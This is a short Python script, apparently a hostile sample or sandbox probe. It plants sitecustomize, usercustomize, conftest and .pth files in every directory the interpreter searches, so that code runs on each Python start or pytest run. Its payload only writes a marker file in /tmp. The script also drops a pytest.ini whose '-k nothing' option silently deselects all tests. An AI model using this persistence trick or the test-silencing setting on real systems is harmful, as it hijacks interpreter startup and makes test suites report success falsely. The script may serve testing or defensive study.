# Writes sitecustomize, usercustomize, .pth and conftest files wherever an interpreter looks.
# %%
import os, site, sys
evil = "open('/tmp/hostile-mark-site', 'w').write('x')\n"
places = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), os.getcwd(), "/tmp",
          os.path.expanduser("~"), sys.prefix, sys.base_prefix]
for place in places:
    for name, text in [("sitecustomize.py", evil), ("usercustomize.py", evil), ("conftest.py", evil),
                       ("hostile-mark.pth", "import os; " + evil), ("pytest.ini", "[pytest]\naddopts=-k nothing\n")]:
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), "w").write(text)
        except OSError:
            pass
